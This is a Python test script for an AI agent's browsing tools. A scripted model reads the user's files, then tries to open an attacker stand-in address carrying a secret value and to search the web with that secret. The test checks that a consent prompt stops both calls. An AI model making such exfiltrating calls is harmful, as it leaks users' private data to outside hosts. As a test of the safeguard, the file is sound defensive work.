"""A turn of a scripted model over the user's files and the web: ``python -m tests.web.turn STEP``.

``asked``: it searches the files, and then wants to open an address of its own, and to search with
what it has read; the user is asked about both, and refuses. ``allowed``: he types an address, which
it opens.
"""

from __future__ import annotations

import sys
import tempfile
import threading
from pathlib import Path

from app.base.types import Message, Outcome, Part, PartAdded, PartKind, Request, Role
from app.network.client import Network
from app.network.page_client import PageClient
from app.tools.browser.browser import Browser
from app.tools.browser.source import PageText
from app.tools.browser.web.web_options import WebOptions
from app.tools.browser.web.web_source import WebSource
from app.tools.loop import ToolLoop
from app.tools.registry import Registry
from app.tools.tool_events import ConsentAsked, Decision
from tests.fakes.browsing import NOTES, Browse, BrowsingModel, open_, search
from tests.fakes.tools import model
from tests.fakes.web_sites import EVIL, SECRET

_OUTSIDE = "http://151.101.1.1/"


class _Texts:
    def page(
        self, data: bytes, media_type: str, charset: str, address: str, cancel: threading.Event
    ) -> PageText:
        return PageText(address, "", data.decode())


def main(step: str) -> int:
    asks = step == "asked"
    with tempfile.TemporaryDirectory() as folder:
        network = Network(Path(folder) / "connections.log")
        client = PageClient(lambda: network, lambda: False)
        web = WebSource(lambda: client, _Texts, WebOptions, bool, str)
        registry = Registry(Browser(lambda: (NOTES, web)).tools)
        calls: list[Browse] = [
            search("copper", source="files"),
            open_(f"http://{EVIL}/?d={SECRET}"),
            search(f"{SECRET} {'9' * 40}", source="web"),
        ]
        typed = "What is copper?" if asks else f"What is in http://{EVIL}/ and {_OUTSIDE} ?"
        if not asks:
            calls = [open_(f"http://{EVIL}/"), open_(_OUTSIDE)]
        request = Request(
            model(),
            (Message(Role.USER, (Part(typed),)),),
            tools=registry.declared(["files:Notes", "web"]),
        )
        asked, ended = 0, list[Part]()
        scripted = BrowsingModel(*calls, "Copper is a metal.")
        for event in ToolLoop(scripted, registry).stream(request, threading.Event()):
            if isinstance(event, ConsentAsked):
                asked += 1
                event.consent.decide(Decision.REFUSE)
            elif isinstance(event, PartAdded) and event.part.kind is PartKind.RESULT:
                ended.append(event.part)
        outcomes = [part.facts.outcome for part in ended if part.facts]
        print(asked, [str(each) for each in outcomes], [part.text[:90] for part in ended])
        refused = outcomes.count(Outcome.REFUSED)
        return int((asked, refused) != ((2, 2) if asks else (0, 0)))


if __name__ == "__main__":
    sys.exit(main(sys.argv[1]))
